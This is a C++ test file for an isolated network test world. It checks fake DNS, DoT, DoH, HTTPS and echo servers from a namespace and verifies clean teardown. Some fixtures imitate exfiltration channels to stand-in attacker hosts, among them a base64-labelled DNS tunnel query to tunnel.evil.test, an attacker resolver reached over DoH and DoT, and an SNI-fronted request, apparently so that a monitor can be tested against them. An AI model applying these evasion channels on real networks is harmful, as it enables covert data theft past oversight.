// The test world judged by real clients (dig, curl, nc, python) run from the kmd side
// namespace, and its promise to leave the host as it found it.
#include "world/world.h"

#include <gtest/gtest.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <dirent.h>
#include <poll.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <set>
#include <sstream>

#include <nlohmann/json.hpp>

#include "km/base/file.h"

namespace km::testing {
namespace {

using Json = nlohmann::json;
using std::chrono::milliseconds;
using Hit = TestWorld::Hit;

constexpr milliseconds kClientTimeout{8000};

bool is_root() { return ::geteuid() == 0; }

class World : public ::testing::Test {
 protected:
  void SetUp() override {
    if (!is_root()) GTEST_SKIP() << "privileged test: the test world needs root for network namespaces";
    auto w = TestWorld::create();
    ASSERT_TRUE(w) << w.error().to_string();
    world_ = std::move(*w);
  }

  TestWorld::Run run(const std::vector<std::string>& argv) {
    auto r = world_->run_in_kmd_netns(argv, kClientTimeout);
    EXPECT_TRUE(r) << r.error().to_string();
    return r ? *r : TestWorld::Run{};
  }
  // dig against `server` with bounded retries; returns stdout.
  std::string dig(const std::string& server, std::vector<std::string> args) {
    std::vector<std::string> argv = {"dig", "@" + server, "+time=2", "+tries=1"};
    argv.insert(argv.end(), args.begin(), args.end());
    auto r = run(argv);
    EXPECT_EQ(r.status, 0) << r.err << r.out;
    return r.out;
  }
  std::vector<std::string> curl_base() const {
    return {"curl", "-sS", "--max-time", "5", "--cacert", world_->ca_bundle()};
  }
  std::vector<Hit> hits_of(const std::string& proto) const {
    std::vector<Hit> out;
    for (auto& h : world_->hits()) {
      if (h.proto == proto) out.push_back(h);
    }
    return out;
  }

  std::unique_ptr<TestWorld> world_;
};

// "name. TTL IN TYPE data" lines from `dig +noall +answer`, as token vectors.
std::vector<std::vector<std::string>> answer_lines(const std::string& out) {
  std::vector<std::vector<std::string>> lines;
  std::istringstream in(out);
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == ';') continue;
    std::istringstream words(line);
    std::vector<std::string> tokens;
    for (std::string w; words >> w;) tokens.push_back(w);
    if (tokens.size() >= 5) lines.push_back(tokens);
  }
  return lines;
}

TEST_F(World, AuthoritativeDnsAnswersFromTheZonesAndRecordsEachQuery) {
  EXPECT_EQ(dig(world_->resolver(), {"+short", "allowed.test"}), "198.51.100.10\n");
  auto dns = hits_of("dns-udp");
  ASSERT_EQ(dns.size(), 1u);
  EXPECT_EQ(dns[0].server, "198.51.100.53");
  EXPECT_EQ(dns[0].port, 53);
  EXPECT_EQ(dns[0].qname, "allowed.test");
  EXPECT_EQ(dns[0].qtype, 1);
  EXPECT_EQ(dns[0].peer.rfind("198.51.100.1:", 0), 0u) << dns[0].peer;

  // Over TCP (length-prefixed).
  EXPECT_EQ(dig(world_->resolver(), {"+tcp", "+short", "api.allowed.test"}), "198.51.100.11\n");
  auto tcp = hits_of("dns-tcp");
  ASSERT_EQ(tcp.size(), 1u);
  EXPECT_EQ(tcp[0].qname, "api.allowed.test");

  // CNAME chains, inside a zone and across the two zones.
  EXPECT_EQ(dig(world_->resolver(), {"+short", "www.allowed.test"}), "allowed.test.\n198.51.100.10\n");
  EXPECT_EQ(dig(world_->resolver(), {"+short", "cdn.allowed.test"}), "edge.evil.test.\n203.0.113.10\n");
  EXPECT_EQ(dig(world_->resolver(), {"+short", "api.allowed.test.evil.test"}), "203.0.113.11\n");

  auto multi = dig(world_->resolver(), {"+short", "multi.allowed.test"});
  EXPECT_NE(multi.find("198.51.100.10\n"), std::string::npos) << multi;
  EXPECT_NE(multi.find("198.51.100.12\n"), std::string::npos) << multi;
  EXPECT_EQ(dig(world_->resolver(), {"+short", "AAAA", "v6.allowed.test"}), "2001:db8::10\n");
  EXPECT_EQ(dig(world_->resolver(), {"+short", "TXT", "txt.evil.test"}), "\"exfil\"\n");
  // Anything under tunnel.evil.test is answered, and so reaches the hits.
  EXPECT_EQ(dig(world_->resolver(), {"+short", "bWFnaWM.tunnel.evil.test"}), "203.0.113.11\n");
  EXPECT_TRUE(world_->wait_for_hit([](const Hit& h) { return h.qname == "bwfnawm.tunnel.evil.test"; }, milliseconds(0)));

  auto ttl = answer_lines(dig(world_->resolver(), {"+noall", "+answer", "short.allowed.test"}));
  ASSERT_EQ(ttl.size(), 1u);
  EXPECT_EQ(ttl[0][1], "5");
  EXPECT_EQ(ttl[0][4], "198.51.100.12");

  auto nx = dig(world_->resolver(), {"no-such-name.allowed.test"});
  EXPECT_NE(nx.find("status: NXDOMAIN"), std::string::npos) << nx;
  EXPECT_NE(nx.find("flags: qr aa"), std::string::npos) << nx;
  EXPECT_NE(nx.find("SOA"), std::string::npos) << nx;
  auto nodata = dig(world_->resolver(), {"AAAA", "allowed.test"});
  EXPECT_NE(nodata.find("status: NOERROR"), std::string::npos) << nodata;
  EXPECT_NE(nodata.find("ANSWER: 0"), std::string::npos) << nodata;
  auto refused = dig(world_->resolver(), {"example.com"});
  EXPECT_NE(refused.find("status: REFUSED"), std::string::npos) << refused;
  EXPECT_EQ(hits_of("dns-udp").size(), 12u);
}

TEST_F(World, AttackerResolverAnswersEveryNameOverDnsDotAndDoh) {
  const std::string ca = world_->ca_bundle();
  EXPECT_EQ(dig(world_->attacker_resolver(), {"+short", "anything.example"}), "203.0.113.10\n");
  EXPECT_EQ(dig(world_->attacker_resolver(), {"+tcp", "+short", "api.anthropic.com"}), "203.0.113.10\n");
  // DoT, with the certificate checked against the test CA.
  EXPECT_EQ(dig(world_->attacker_resolver(), {"+tls", "+tls-ca=" + ca, "+tls-hostname=dns.evil.test", "+short", "dot.example"}),
            "203.0.113.10\n");
  // dig 9.18 sends no SNI; python's client does, and the hit shows it.
  auto r = run({"python3", "-c",
                "import socket, ssl, struct, sys\n"
                "ctx = ssl.create_default_context(cafile=sys.argv[1])\n"
                "q = bytes.fromhex('12340100000100000000000003646f7403736e6903746c640000010001')\n"
                "with ctx.wrap_socket(socket.create_connection(('203.0.113.53', 853), timeout=3),\n"
                "                     server_hostname='dns.evil.test') as s:\n"
                "    s.sendall(struct.pack('!H', len(q)) + q)\n"
                "    n = struct.unpack('!H', s.recv(2))[0]\n"
                "    a = b''\n"
                "    while len(a) < n: a += s.recv(n - len(a))\n"
                "    print(socket.inet_ntoa(a[-4:]))\n",
                ca});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "203.0.113.10\n");
  auto dot = hits_of("dot");
  ASSERT_EQ(dot.size(), 2u);
  EXPECT_EQ(dot[0].qname, "dot.example");
  EXPECT_EQ(dot[0].port, 853);
  EXPECT_EQ(dot[1].qname, "dot.sni.tld");
  EXPECT_EQ(dot[1].sni, "dns.evil.test");

  // DoH by POST: curl resolves through it, then fetches from the address it was given.
  auto argv = curl_base();
  argv.insert(argv.end(), {"--doh-url", "https://203.0.113.53/dns-query", "http://doh.example/via-doh"});
  r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  Json j = Json::parse(r.out);
  EXPECT_EQ(j["server"], "203.0.113.10");
  EXPECT_EQ(j["host"], "doh.example");
  EXPECT_TRUE(world_->wait_for_hit([](const Hit& h) { return h.proto == "doh" && h.qname == "doh.example" && h.qtype == 1; },
                                   milliseconds(0)));

  // DoH by GET: ?dns= carries a base64url query for get.example A (id 0, RD).
  std::string query("\x00\x00\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03get\x07" "example\x00\x00\x01\x00\x01", 29);
  std::string b64;
  const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  for (size_t i = 0; i < query.size(); i += 3) {
    uint32_t v = static_cast<uint32_t>(static_cast<unsigned char>(query[i])) << 16;
    if (i + 1 < query.size()) v |= static_cast<uint32_t>(static_cast<unsigned char>(query[i + 1])) << 8;
    if (i + 2 < query.size()) v |= static_cast<unsigned char>(query[i + 2]);
    size_t chars = std::min<size_t>(4, (query.size() - i) * 4 / 3 + 1);
    for (size_t k = 0; k < chars; ++k) b64 += alphabet[(v >> (18 - 6 * k)) & 63];
  }
  std::string reply_path = world_->dir() + "/doh-reply.bin";
  argv = curl_base();
  argv.insert(argv.end(), {"-o", reply_path, "-w", "%{content_type}", "https://203.0.113.53/dns-query?dns=" + b64});
  r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "application/dns-message");
  auto reply = km::read_file(reply_path, 4096);
  ASSERT_TRUE(reply);
  ASSERT_GE(reply->size(), 4u);
  EXPECT_EQ(reply->substr(reply->size() - 4), std::string("\xcb\x00\x71\x0a", 4));  // 203.0.113.10
  EXPECT_TRUE(world_->wait_for_hit([](const Hit& h) { return h.proto == "doh" && h.qname == "get.example"; },
                                   milliseconds(0)));
}

TEST_F(World, HttpsServesTheTestCaCertificateChosenBySni) {
  auto argv = curl_base();
  argv.insert(argv.end(), {"--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/x"});
  auto r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  Json j = Json::parse(r.out);
  EXPECT_EQ(j["server"], "198.51.100.10");
  EXPECT_EQ(j["port"], 443);
  EXPECT_EQ(j["host"], "allowed.test");
  EXPECT_EQ(j["sni"], "allowed.test");
  EXPECT_EQ(j["path"], "/x");
  auto https = hits_of("https");
  ASSERT_EQ(https.size(), 1u);
  EXPECT_EQ(https[0].server, "198.51.100.10");
  EXPECT_EQ(https[0].host, "allowed.test");
  EXPECT_EQ(https[0].sni, "allowed.test");
  EXPECT_EQ(https[0].path, "/x");

  // One address fronts names of other hosts: SNI picks the certificate that covers the name.
  argv = curl_base();
  argv.insert(argv.end(), {"--resolve", "evil.test:443:198.51.100.10", "https://evil.test/fronted"});
  r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(Json::parse(r.out)["sni"], "evil.test");

  // A name no certificate covers fails verification, and is still seen arriving.
  world_->clear_hits();
  argv = curl_base();
  argv.insert(argv.end(), {"--resolve", "nobody.test:443:198.51.100.10", "https://nobody.test/"});
  r = run(argv);
  EXPECT_EQ(r.status, 60) << r.err;  // CURLE_PEER_FAILED_VERIFICATION
  EXPECT_TRUE(world_->wait_for_hit(
      [](const Hit& h) { return h.proto == "https" && h.sni == "nobody.test" && h.path.empty(); }, milliseconds(3000)));
}

TEST_F(World, HttpStreamsExactByteCountsOverKeepAlive) {
  auto argv = curl_base();
  argv.insert(argv.end(), {"-o", "/dev/null", "-w", "%{size_download}", "http://198.51.100.11/bytes/1048576"});
  auto r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "1048576");

  argv = curl_base();
  argv.insert(argv.end(), {"-o", "/dev/null", "-w", "%{size_download}", "--resolve", "api.allowed.test:443:198.51.100.11",
                           "https://api.allowed.test/bytes/3000001"});
  r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "3000001");

  // Two requests, one connection.
  world_->clear_hits();
  argv = curl_base();
  argv.insert(argv.end(), {"-o", "/dev/null", "-o", "/dev/null", "http://203.0.113.11/a", "http://203.0.113.11/b"});
  r = run(argv);
  ASSERT_EQ(r.status, 0) << r.err;
  auto http = hits_of("http");
  ASSERT_EQ(http.size(), 2u);
  EXPECT_EQ(http[0].path, "/a");
  EXPECT_EQ(http[1].path, "/b");
  EXPECT_EQ(http[0].host, "203.0.113.11");
  EXPECT_EQ(http[0].peer, http[1].peer);
}

TEST_F(World, RawTcpAndUdpEcho) {
  auto r = run({"sh", "-c", "printf hello | nc -N -w 3 198.51.100.10 7"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "hello");
  r = run({"sh", "-c", "printf knock | nc -N -w 3 203.0.113.10 22"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "SSH-2.0-world\r\nknock");
  r = run({"python3", "-c",
           "import socket\n"
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
           "s.settimeout(3)\n"
           "for port in (7, 443):\n"
           "    s.sendto(b'ping%d' % port, ('198.51.100.12', port))\n"
           "    print(s.recv(100).decode())\n"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_EQ(r.out, "ping7\nping443\n");
  auto tcp = hits_of("tcp");
  ASSERT_EQ(tcp.size(), 2u);
  EXPECT_EQ(tcp[0].port, 7);
  EXPECT_EQ(tcp[1].port, 22);
  EXPECT_EQ(tcp[1].server, "203.0.113.10");
  auto udp = hits_of("udp");
  ASSERT_EQ(udp.size(), 2u);
  EXPECT_EQ(udp[1].port, 443);
}

// ---- lifecycle ----------------------------------------------------------------------------

struct HostNet {
  std::set<std::string> interfaces;
  std::set<std::string> listeners;  // "tcp 0100007F:0035"
  bool operator==(const HostNet&) const = default;
};

// The caller's network namespace as seen from this thread: interface names and sockets that
// listen (TCP LISTEN, unconnected UDP).
HostNet host_net() {
  HostNet h;
  if (auto* names = ::if_nameindex()) {
    for (auto* n = names; n->if_index != 0; ++n) h.interfaces.insert(n->if_name);
    ::if_freenameindex(names);
  }
  for (const char* proto : {"tcp", "tcp6", "udp", "udp6"}) {
    std::ifstream in(std::string("/proc/thread-self/net/") + proto);
    std::string line;
    std::getline(in, line);
    while (std::getline(in, line)) {
      std::istringstream f(line);
      std::string slot, local, remote, state;
      f >> slot >> local >> remote >> state;
      bool tcp = proto[0] == 't';
      bool listening = tcp ? state == "0A" : remote.find_first_not_of("0:") == std::string::npos;
      if (listening) h.listeners.insert(std::string(proto) + " " + local);
    }
  }
  return h;
}

bool host_has_world_address() {
  ifaddrs* list = nullptr;
  if (::getifaddrs(&list) != 0) return false;
  bool found = false;
  for (auto* a = list; a != nullptr; a = a->ifa_next) {
    if (a->ifa_addr == nullptr || a->ifa_addr->sa_family != AF_INET) continue;
    uint32_t h = ntohl(reinterpret_cast<sockaddr_in*>(a->ifa_addr)->sin_addr.s_addr) & 0xffffff00u;
    found = found || h == 0xc6336400u || h == 0xcb007100u;
  }
  ::freeifaddrs(list);
  return found;
}

ino_t ns_inode(const std::string& path) {
  struct stat st{};
  return ::stat(path.c_str(), &st) == 0 ? st.st_ino : 0;
}

// Processes whose network namespace is `ino`, and this process's descriptors that refer to it.
int holders_of(ino_t ino) {
  int n = 0;
  std::string want = "net:[" + std::to_string(ino) + "]";
  DIR* d = ::opendir("/proc");
  while (dirent* e = d ? ::readdir(d) : nullptr) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    if (ns_inode(std::string("/proc/") + e->d_name + "/ns/net") == ino) ++n;
  }
  if (d) ::closedir(d);
  d = ::opendir("/proc/self/fd");
  while (dirent* e = d ? ::readdir(d) : nullptr) {
    char target[256] = {};
    std::string link = std::string("/proc/self/fd/") + e->d_name;
    if (::readlink(link.c_str(), target, sizeof target - 1) > 0 && want == target) ++n;
  }
  if (d) ::closedir(d);
  return n;
}

TEST(WorldLifecycle, LeavesTheHostAsItWasAndTakesEverythingDown) {
  if (!is_root()) GTEST_SKIP() << "privileged test: the test world needs root for network namespaces";
  HostNet before = host_net();
  ino_t host_ns = ns_inode("/proc/thread-self/ns/net");

  // A customised world: an extra zone and host, as a fake provider endpoint would use.
  WorldOptions options;
  options.zones.push_back("provider.test");
  options.records.push_back({"api.provider.test", "A", "198.51.100.20", 60});
  options.hosts.push_back({"198.51.100.20", {"api.provider.test"}, true});
  auto created = TestWorld::create(options);
  ASSERT_TRUE(created) << created.error().to_string();
  auto world = std::move(*created);

  std::string dir = world->dir();
  struct stat st{};
  ASSERT_EQ(::fstat(world->kmd_netns_fd(), &st), 0);
  ino_t kmd_ns = st.st_ino;
  ASSERT_EQ(::fstat(world->world_netns_fd(), &st), 0);
  ino_t world_ns = st.st_ino;
  EXPECT_NE(kmd_ns, host_ns);
  EXPECT_NE(world_ns, host_ns);
  EXPECT_EQ(ns_inode("/proc/" + std::to_string(world->server_pid()) + "/ns/net"), world_ns);

  auto r = world->run_in_kmd_netns({"dig", "@198.51.100.53", "+time=2", "+tries=1", "+short", "api.provider.test"},
                                   kClientTimeout);
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_EQ(r->out, "198.51.100.20\n");
  r = world->run_in_kmd_netns({"curl", "-sS", "--max-time", "5", "--cacert", world->ca_bundle(), "--resolve",
                               "api.provider.test:443:198.51.100.20", "https://api.provider.test/v1/messages"},
                              kClientTimeout);
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_EQ(r->status, 0) << r->err;
  EXPECT_NE(r->out.find("\"host\": \"api.provider.test\""), std::string::npos) << r->out;
  r = world->run_in_kmd_netns({"ip", "-o", "-4", "addr", "show", "dev", "kw0"}, kClientTimeout);
  ASSERT_TRUE(r) << r.error().to_string();
  EXPECT_NE(r->out.find("198.51.100.1/24"), std::string::npos) << r->out;
  EXPECT_NE(r->out.find("203.0.113.1/24"), std::string::npos) << r->out;

  // A long-running process in K (as kmd would be), and one that exits on its own.
  auto sleeper = world->spawn_in_kmd_netns({"sleep", "60"}, {}, dir + "/sleeper.log");
  ASSERT_TRUE(sleeper) << sleeper.error().to_string();
  EXPECT_EQ(ns_inode("/proc/" + std::to_string(*sleeper) + "/ns/net"), kmd_ns);
  auto quick = world->spawn_in_kmd_netns({"sh", "-c", "exit 3"}, {}, "");
  ASSERT_TRUE(quick) << quick.error().to_string();
  auto status = world->wait_exit(*quick, milliseconds(5000));
  ASSERT_TRUE(status) << status.error().to_string();
  EXPECT_EQ(*status, 3);

  // Nothing of the world is visible from here.
  EXPECT_FALSE(host_has_world_address());
  EXPECT_EQ(before.interfaces, host_net().interfaces);
  for (const auto& l : host_net().listeners) EXPECT_TRUE(before.listeners.count(l)) << "new host listener " << l;

  UniqueFd server(static_cast<int>(::syscall(SYS_pidfd_open, world->server_pid(), 0)));
  UniqueFd sleeping(static_cast<int>(::syscall(SYS_pidfd_open, *sleeper, 0)));
  ASSERT_TRUE(server && sleeping);
  world.reset();

  // Gone: processes (their pidfds read as exited), namespaces (no process or descriptor holds
  // them), pins and the directory; the host unchanged.
  for (int fd : {server.get(), sleeping.get()}) {
    pollfd p{fd, POLLIN, 0};
    EXPECT_EQ(::poll(&p, 1, 0), 1);
  }
  EXPECT_EQ(holders_of(kmd_ns), 0);
  EXPECT_EQ(holders_of(world_ns), 0);
  EXPECT_NE(::access(dir.c_str(), F_OK), 0);
  HostNet after = host_net();
  EXPECT_EQ(before.interfaces, after.interfaces);
  for (const auto& l : after.listeners) EXPECT_TRUE(before.listeners.count(l)) << "new host listener " << l;
}

TEST(WorldLifecycle, RefusesAddressesOutsideTheDocumentationRanges) {
  if (!is_root()) GTEST_SKIP() << "privileged test: the test world needs root for network namespaces";
  WorldOptions options;
  options.hosts.push_back({"10.0.0.5", {"private.test"}, true});
  auto w = TestWorld::create(options);
  ASSERT_FALSE(w);
  EXPECT_EQ(w.error().code(), ErrorCode::kInvalidArgument);
  EXPECT_NE(w.error().to_string().find("10.0.0.5"), std::string::npos);
}

}  // namespace
}  // namespace km::testing
